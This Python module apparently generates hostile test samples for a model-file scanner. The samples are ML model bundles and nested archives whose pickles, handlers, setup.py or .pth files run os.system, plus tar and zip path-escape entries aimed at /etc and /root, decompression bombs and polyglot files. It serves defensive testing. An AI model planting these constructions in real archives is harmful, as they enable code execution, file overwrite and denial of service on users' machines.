"""Archives around models: TorchServe, NeMo, 7z, nested archives, path escapes, bombs, polyglots."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zlib
from typing import Any

from .archives_torch import BENIGN, hostile, tarred, torch_zip
from .archives_torch import legacy_tar as _legacy_tar
from .asm import Call, Global, pickled
from .pickle_opcodes import NAMED, SYSTEM
from .sample import ABUSES, EXECUTES, MALFORMED, Kit, Maker, Sample
from .zipper import Entry, zipped

G, C = Global, Call
SPECIFICATION = "built from the format's specification; its loader is not installed"


def samples() -> list[Sample]:
    """All of this module."""
    return [*_bundles(), *_nested(), *_escapes(), *_bombs(), *_polyglots(), *_broken()]


def _by_program(path: str, technique: str, make: Maker, unloaded: str, **options: Any) -> Sample:
    """Runs once a program opens the pickle inside."""
    options.setdefault("calls", NAMED)
    return Sample(path, technique, EXECUTES, make, unloaded=unloaded, **options)


def _abuse(path: str, technique: str, make: Maker, **options: Any) -> Sample:
    return Sample(path, technique, ABUSES, make, **options)


def _bundles() -> list[Sample]:
    manifest = b'{"createdOn": "01/01/2026", "runtime": "python", "model": {"modelName": "m", "serializedFile": "m.pt", "handler": "handler.py"}}'
    handler = "import os\n\n\ndef handle(data, context):\n    os.system('{shell}')\n    return data\n"
    return [
        _by_program("bundle/model.mar", "TorchServe archive with a hostile model", lambda k: zipped(
            [Entry("MAR-INF/MANIFEST.json", manifest), Entry("handler.py", b"def handle(d, c): return d\n"), Entry("m.pt", torch_zip(hostile(k)))]),
            SPECIFICATION),
        _by_program("bundle/handler.mar", "TorchServe archive with a hostile handler", lambda k: zipped(
            [Entry("MAR-INF/MANIFEST.json", manifest), Entry("handler.py", handler.format(shell=k.shell).encode()), Entry("m.pt", torch_zip(BENIGN))]),
            SPECIFICATION),
        _by_program("bundle/model.nemo", "NeMo archive (tar) with a hostile checkpoint", lambda k: tarred(
            {"./model_config.yaml": b"target: nemo.collections.asr.models.EncDecCTCModel\n", "./model_weights.ckpt": torch_zip(hostile(k))}),
            SPECIFICATION),
        _by_program("bundle/compressed.nemo", "NeMo archive (tar.gz)", lambda k: gzip.compress(tarred(
            {"./model_weights.ckpt": torch_zip(hostile(k))}), mtime=0), SPECIFICATION),
        _by_program("bundle/hydra.nemo", "NeMo archive whose configuration names a callable (_target_)", lambda k: tarred(
            {"./model_config.yaml": f"model:\n  _target_: os.system\n  command: {k.shell}\n".encode(), "./model_weights.ckpt": torch_zip(BENIGN)}),
            SPECIFICATION, reference="CVE-2025-23304"),
        _by_program("carrier/shelve.dat", "the second value of a shelf (dbm.dumb pads them to 512 bytes)",
                    lambda k: pickled({"a": 1}, 2).ljust(512, b"\0") + hostile(k), "runs when the value is fetched with shelve",
                    extra={"shelve.dir": lambda _: b"'a', (0, 20)\n'b', (512, 60)\n"}),
        _by_program("bundle/mlflow.zip", "an MLflow model folder, zipped", lambda k: zipped(
            [Entry("MLmodel", b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n"),
             Entry("model.pkl", hostile(k, 4))]), SPECIFICATION),
        _by_program("bundle/stable-baselines.zip", "a stable-baselines3 zip: base64 cloudpickle inside JSON", _stable_baselines, SPECIFICATION),
        _by_program("bundle/fastai.pkl", "a fastai learner export is a torch zip named .pkl", lambda k: torch_zip(hostile(k)), "",
                    loader="torch", needs=("torch",)),
        _by_program("bundle/spacy.tar.gz", "a model package with setup.py", lambda k: gzip.compress(tarred(
            {"en_model-1.0/setup.py": f"import os\nos.system('{k.shell}')\n".encode()}), mtime=0), SPECIFICATION),
        _by_program("bundle/wheel.whl", "a wheel with a .pth that runs at start-up", lambda k: zipped(
            [Entry("payload.pth", f"import os; os.system('{k.shell}')\n".encode()), Entry("p-1.dist-info/METADATA", b"Name: p\n")]),
            SPECIFICATION),
    ]  # fmt: skip


def _stable_baselines(kit: Kit) -> bytes:
    import base64
    import json

    data = {
        "policy_class": {":type:": "<class 'abc.ABCMeta'>", ":serialized:": base64.b64encode(hostile(kit, 4)).decode()}
    }
    return zipped([Entry("data", json.dumps(data).encode()), Entry("_stable_baselines3_version", b"2.3.0")])


def _nested() -> list[Sample]:
    opened = "runs once a program unpacks it and opens the pickle"
    return [
        _by_program("nested/pickle.zip", "a pickle in a zip", lambda k: zipped([Entry("a.bin", hostile(k))]), opened),
        _by_program("nested/zip-in-zip.zip", "a torch zip in a zip in a zip", lambda k: zipped(
            [Entry("b.zip", zipped([Entry("c.pt", torch_zip(hostile(k)))]))]), opened),
        _by_program("nested/seven-deep.zip", "seven archives deep", _deep, opened),
        _by_program("nested/pickle.tar", "a pickle in a tar", lambda k: tarred({"a.pkl": hostile(k)}), opened),
        _by_program("nested/pickle.tar.gz", "a pickle in a tar.gz", lambda k: gzip.compress(tarred({"a.pkl": hostile(k)}), mtime=0), opened),
        _by_program("nested/pickle.tar.bz2", "a pickle in a tar.bz2", lambda k: bz2.compress(tarred({"a.pkl": hostile(k)})), opened),
        _by_program("nested/pickle.tar.xz", "a pickle in a tar.xz", lambda k: lzma.compress(tarred({"a.pkl": hostile(k)})), opened),
        _by_program("nested/pickle.7z", "a pickle in a 7z (stored)", lambda k: seven_zip(hostile(k)), opened, reference="modelscan issue 263"),
        _by_program("nested/stored-lzma.7z", "a pickle in a 7z (LZMA2)", lambda k: seven_zip(hostile(k), lzma2=True), opened),
        _by_program("nested/pickle.zz", "raw zlib around a pickle", lambda k: zlib.compress(hostile(k)), opened),
        _by_program("nested/deflated-twice.bin", "gzip around gzip around a pickle",
                    lambda k: gzip.compress(gzip.compress(hostile(k), mtime=0), mtime=0), opened),
        _by_program("nested/tar-in-safetensors-name.safetensors", "a tar with a pickle under a safe extension",
                    lambda k: tarred({"model.pkl": hostile(k)}), opened),
    ]  # fmt: skip


def _deep(kit: Kit) -> bytes:
    data = hostile(kit)
    for level in range(6):
        data = zipped([Entry(f"{level}.zip", data)])
    return data


def _number(value: int) -> bytes:
    """7z's variable-length integer, long form."""
    return b"\xff" + struct.pack("<Q", value)


def seven_zip(data: bytes, *, lzma2: bool = False) -> bytes:
    """A 7z archive of one file `model.pkl`, stored or in LZMA2 (https://py7zr.readthedocs.io/en/latest/archive_format.html)."""
    filters = [{"id": lzma.FILTER_LZMA2, "preset": 6, "dict_size": 1 << 20}]
    packed = lzma.compress(data, lzma.FORMAT_RAW, filters=filters) if lzma2 else data
    coder = b"\x21\x21\x01\x10" if lzma2 else b"\x01\x00"  # LZMA2 with a 1 MiB dictionary; copy
    name = "model.pkl".encode("utf-16-le") + b"\x00\x00"
    header = (
        b"\x01\x04\x06" + _number(0) + _number(1) + b"\x09" + _number(len(packed)) + b"\x00"
        + b"\x07\x0b" + _number(1) + b"\x00" + b"\x01" + coder + b"\x0c" + _number(len(data)) + b"\x00"
        + b"\x08\x0a\x01" + struct.pack("<L", zlib.crc32(data)) + b"\x00" + b"\x00"
        + b"\x05" + _number(1) + b"\x11" + _number(len(name) + 1) + b"\x00" + name + b"\x00" + b"\x00"
    )  # fmt: skip
    start = struct.pack("<QQL", len(packed), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<L", zlib.crc32(start)) + start + packed + header


def _tar_member(name: str, kind: bytes, link: str = "") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        info = tarfile.TarInfo(name)
        info.type, info.linkname = kind, link
        tar.addfile(info)
        info = tarfile.TarInfo("weights.bin")
        info.size = 4
        tar.addfile(info, io.BytesIO(b"\x00" * 4))
    return out.getvalue()


def _escapes() -> list[Sample]:
    return [
        _abuse("escape/parent.tar", "a member named ../../x", lambda _: tarred({"../../x": b"x"}), reference="CVE-2007-4559"),
        _abuse("escape/absolute.tar", "a member named /etc/cron.d/x", lambda _: tarred({"/etc/cron.d/x": b"x"}), reference="CVE-2007-4559"),
        _abuse("escape/symlink.tar", "a symbolic link to /etc/passwd", lambda _: _tar_member("config.json", tarfile.SYMTYPE, "/etc/passwd"),
               reference="CVE-2025-4517"),
        _abuse("escape/hardlink.tar", "a hard link to ../../secret", lambda _: _tar_member("config.json", tarfile.LNKTYPE, "../../secret")),
        _abuse("escape/device.tar", "a character device", lambda _: _tar_member("weights", tarfile.CHRTYPE)),
        _abuse("escape/fifo.tar", "a named pipe", lambda _: _tar_member("weights", tarfile.FIFOTYPE)),
        _abuse("escape/parent.zip", "a member named ../../x", lambda _: zipped([Entry("../../x.py", b"x")])),
        _abuse("escape/absolute.zip", "a member named /root/.bashrc", lambda _: zipped([Entry("/root/.bashrc", b"x")])),
        _abuse("escape/backslash.zip", "a member named ..\\..\\x", lambda _: zipped([Entry("..\\..\\x", b"x")])),
        _abuse("escape/drive.zip", "a member named C:\\x", lambda _: zipped([Entry("C:\\x", b"x")])),
        _abuse("escape/symlink.zip", "a symbolic link", lambda _: zipped([Entry("model", b"/etc/passwd", attributes=0o120777 << 16)])),
        _abuse("escape/parent.nemo", "a NeMo archive with a member named ../x", lambda _: tarred(
            {"../payload.py": b"x", "model_config.yaml": b"a: 1\n"}), reference="CVE-2025-23360"),
    ]  # fmt: skip


def _bombs() -> list[Sample]:
    zeros = bytes(40 << 20)
    return [
        Sample("bomb/deflate.zip", "40 MB of zeros in 40 KB, ten times", MALFORMED, lambda _: zipped(
            [Entry(f"{i}", zeros, deflate=True) for i in range(10)])),
        Sample("bomb/gzip.gz", "400 MB of zeros in gzip", MALFORMED, lambda _: b"".join([gzip.compress(zeros, mtime=0)] * 10)),
        Sample("bomb/zlib.joblib", "200 MB of zeros as a joblib file", MALFORMED, lambda _: zlib.compress(zeros * 5)),
        Sample("bomb/xz.xz", "200 MB of zeros in xz", MALFORMED, lambda _: lzma.compress(zeros * 5, preset=1)),
        Sample("bomb/overlap.zip", "1,000 directory entries over the same deflated bytes", MALFORMED, _overlapping),
        Sample("bomb/nested.zip", "zip in zip, twelve deep", MALFORMED, _too_deep),
        Sample("bomb/members.zip", "70,000 empty members", MALFORMED, lambda _: zipped([Entry(str(i), b"") for i in range(65_000)])),
    ]  # fmt: skip


def _overlapping(_: Kit) -> bytes:
    whole = bytearray(zipped([Entry(f"{i:04}", bytes(4 << 20) if i == 0 else b"", deflate=True) for i in range(1000)]))
    first = position = whole.index(b"PK\x01\x02")
    for _index in range(1000):
        whole[position + 42 : position + 46] = whole[first + 42 : first + 46]
        whole[position + 16 : position + 28] = whole[first + 16 : first + 28]
        position += 46 + 4
    return bytes(whole)


def _too_deep(_: Kit) -> bytes:
    data = b"bottom"
    for level in range(12):
        data = zipped([Entry(f"{level}.zip", data)])
    return data


def _polyglots() -> list[Sample]:
    def header(size: int) -> bytes:
        text = b'{"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (size, size)
        return struct.pack("<Q", len(text)) + text

    def safetensors_zip(kit: Kit) -> bytes:
        inner = torch_zip(hostile(kit))
        return header(len(inner)) + inner

    def pickle_safetensors(kit: Kit) -> bytes:
        """A pickle whose first eight bytes are a safetensors header length."""
        text = b'{"w":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}'
        return hostile(kit) + text

    opened = "runs in a program that reads the file as the other format"
    return [
        _by_program("polyglot/safetensors-zip.safetensors", "valid safetensors whose data is a zip: readers that look for the end record see it",
                    safetensors_zip, opened),
        _by_program("polyglot/pickle-then-json.json", "a pickle followed by JSON", pickle_safetensors, "", loader="pickle"),
        _by_program("polyglot/pickle-zip.pt", "a pickle in front of a benign torch zip: pickle.load runs it, unzip sees the other",
                    lambda k: hostile(k) + torch_zip(BENIGN), "", loader="pickle"),
        _by_program("polyglot/tar-zip.pt", "a legacy torch tar in front of a benign torch zip", lambda k: _legacy_tar(k) + torch_zip(BENIGN),
                    "", loader="torch", needs=("torch",)),
        _by_program("polyglot/png-zip.png", "a picture with a zip behind it", lambda k: _png() + zipped([Entry("model.pkl", hostile(k))]), opened),
        _by_program("polyglot/shell-zip.llamafile", "a shell script with a zip behind it", lambda k: b"MZqFpD='\n#'\n" + f"{k.shell}\nexit 0\n".encode()
                    + zipped([Entry("model.gguf", b"GGUF")]), "", loader="shell", calls=("touch", "shell", "executable", "script", "program", "program")),
        _by_program("polyglot/gguf-pickle.gguf", "a pickle whose first string is GGUF", lambda k: b"\x80\x04\x8c\x04GGUF0" + hostile(k)[2:], "",
                    loader="pickle"),
        _by_program("polyglot/pdf-pickle.pdf", "protocol 0 that begins like a PDF comment", lambda k: b"V%PDF-1.7\n0" + pickled(C(SYSTEM, k.shell), 0),
                    "", loader="pickle"),
    ]  # fmt: skip


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    pixels = zlib.compress(b"\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">LLBBBBB", 1, 1, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


def _broken() -> list[Sample]:
    whole = zipped([Entry("archive/data.pkl", BENIGN), Entry("archive/version", b"3\n")])
    return [
        Sample("broken/truncated.zip", "a zip cut in the middle", MALFORMED, lambda _: whole[: len(whole) // 2]),
        Sample("broken/no-end.zip", "a zip without its end record", MALFORMED, lambda _: whole[:-22]),
        Sample("broken/offset.zip", "the directory offset points past the end", MALFORMED, lambda _: whole[:-6] + b"\xff\xff\xff\x7f" + whole[-2:]),
        Sample("broken/encrypted.zip", "an encrypted member can't be read", MALFORMED, lambda _: zipped([Entry("a.pkl", b"\x13" * 40, flags=1)])),
        Sample("broken/truncated.tar", "a tar cut in the middle", MALFORMED, lambda _: tarred({"a": bytes(2000)})[:1000]),
        Sample("broken/truncated.gz", "a gzip cut in the middle", MALFORMED, lambda _: gzip.compress(bytes(100_000), mtime=0)[:40]),
        Sample("broken/truncated.7z", "a 7z cut in the middle", MALFORMED, lambda k: seven_zip(hostile(k))[:60]),
        Sample("broken/random.bin", "bytes of no known format", MALFORMED, lambda _: bytes((i * 197 + 31) % 251 for i in range(5000))),
        Sample("broken/truncated.pkl", "a benign pickle cut in the middle", MALFORMED, lambda _: pickled({"a": [1.0] * 50}, 4)[:100]),
        Sample("broken/empty.pkl", "an empty file named .pkl", MALFORMED, lambda _: b""),
    ]  # fmt: skip
